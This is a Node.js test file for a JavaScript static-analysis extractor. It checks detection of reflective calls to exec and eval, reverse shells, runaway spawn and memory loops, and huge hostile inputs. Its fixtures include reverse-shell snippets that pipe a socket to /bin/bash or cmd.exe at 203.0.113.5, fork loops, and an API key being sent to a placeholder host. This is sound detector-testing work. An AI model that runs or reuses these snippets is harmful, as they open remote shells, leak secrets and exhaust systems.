// Reflective access, reverse shells, runaway loops, and hostile inputs for the JavaScript extractor.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { jsFacts } from './test-support.js';

test('reflective access: dangerous bases with unknown or folded keys; ordinary objects only for folded dangerous names', async () => {
  const f = await jsFacts([
    "const cp = require('child_process');",
    'globalThis[name](); window[k]; cp[method]("x");',
    "cp['ex' + 'ec']('id'); global[`eval`]('1'); require('vm')[\"runIn\" + \"NewContext\"]('1');",
    "obj[key]; obj['exec']; const handlers = { a: 1 }; handlers['a'];",
    "thing['ev' + 'al'](code); process[prop];",
  ].join('\n'));
  const got = f.reflective.map((r) => `${r.line}:${r.name ?? 'null'}${r.dangerous ? '!' : ''}`);
  assert.deepEqual(got, ['2:null', '2:null', '2:null', '3:exec!', '3:eval!', '3:runInNewContext!', '5:eval!', '5:null']);
});

test('reverse shell: socket piped to a spawned shell, or passed as its stdio', async () => {
  const piped = await jsFacts([
    "const net = require('net'); const cp = require('child_process');",
    'const client = new net.Socket();',
    "client.connect(4444, '203.0.113.5', () => {",
    "  const sh = cp.spawn('/bin/bash', ['-i']);",
    '  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);',
    '});',
  ].join('\n'));
  assert.deepEqual(piped.patterns.map((p) => [p.kind, p.line, p.sourceLine]), [['reverse_shell', 4, 3]]);
  const stdio = await jsFacts([
    "import net from 'node:net'; import { spawn } from 'node:child_process';",
    "const s = net.connect({ host: '203.0.113.5', port: 9001 });",
    "s.on('connect', () => spawn('cmd.exe', [], { stdio: [s, s, s] }));",
  ].join('\n'), 'typescript');
  assert.deepEqual(stdio.patterns.map((p) => [p.kind, p.line, p.sourceLine]), [['reverse_shell', 3, 2]]);
  const benign = await jsFacts([
    "const net = require('net'); const { spawn } = require('child_process');",
    "const client = net.connect(80, 'example.com');",
    "const git = spawn('git', ['status']); git.stdout.pipe(process.stdout); client.pipe(process.stdout);",
  ].join('\n'));
  assert.deepEqual(benign.patterns, []);
});

test('runaway loops: endless loops that spawn or grow memory; exits and sleeps are not runaway', async () => {
  const f = await jsFacts([
    "const cp = require('child_process'); const leak = [];",
    "while (true) { cp.fork('w.js'); }",
    'for (;;) { leak.push(Buffer.alloc(1024)); }',
    "do { cp.exec('x'); } while (1);",
    "while (true) { cp.exec('x'); if (done()) break; }",
    "async function poll() { while (true) { cp.spawn('x', []); await sleep(1000); } }",
    'while (true) { const local = []; local.push(1); }',
    "while (true) { const f = () => { return cp.exec('y'); }; process.exit(0); }",
    'function* gen() { while (true) { yield cp.spawn("z", []); } }',
    'for (let i = 0; i < 10; i++) { leak.push(i); }',
  ].join('\n'));
  assert.deepEqual(f.patterns.map((p) => [p.kind, p.line, p.sourceLine, p.text.slice(0, 12)]), [
    ['runaway_loop', 2, 2, "cp.fork('w.j"], ['runaway_loop', 3, 3, 'Buffer.alloc'], ['runaway_loop', 4, 4, "cp.exec('x')"],
  ]);
});

test('hostile inputs: a 1 MB minified line, 20,000 nested parentheses and arrays, a 50,000-statement chain', async () => {
  const unit = 'var a=function(b,c){return b+c*2},d=[1,2,3].map(function(e){return a(e,e)});if(d.length>2){d.push("x")}';
  const minified = `${unit.repeat(Math.ceil(1_000_000 / unit.length))}eval(process.argv[2]);`;
  const mini = await jsFacts(minified);
  assert.equal(mini.calls.at(-1)?.op, 'eval');
  assert.equal(mini.calls.at(-1)?.taints[0]?.kind, 'user_input');
  const parens = await jsFacts(`eval(${'('.repeat(20_000)}x${')'.repeat(20_000)});\neval(process.argv[2]);`);
  assert.deepEqual(parens.calls.map((c) => c.line), [1, 2]);
  const arrays = await jsFacts(`fetch('https://x.example.com', { body: ${'['.repeat(20_000)}1${']'.repeat(20_000)} });`);
  assert.equal(arrays.calls.length, 1);
  const chain = ['let a0 = process.env.API_KEY;'];
  for (let i = 1; i <= 50_000; i++) chain.push(`let a${i} = a${i - 1} + "x";`);
  chain.push("fetch('https://x.example.com', { method: 'POST', body: a50000 });");
  const long = await jsFacts(chain.join('\n'));
  assert.equal(long.calls.length, 1);
  assert.deepEqual(long.calls[0]?.taints.map((t) => [t.kind, t.line, t.viaVariable]), [['env', 1, true]], 'taint survives 50,000 assignments');
  const calls = await jsFacts(`x${'.a()'.repeat(20_000)};\nrequire('child_process').exec('id');`);
  assert.equal(calls.calls.length, 1);
});
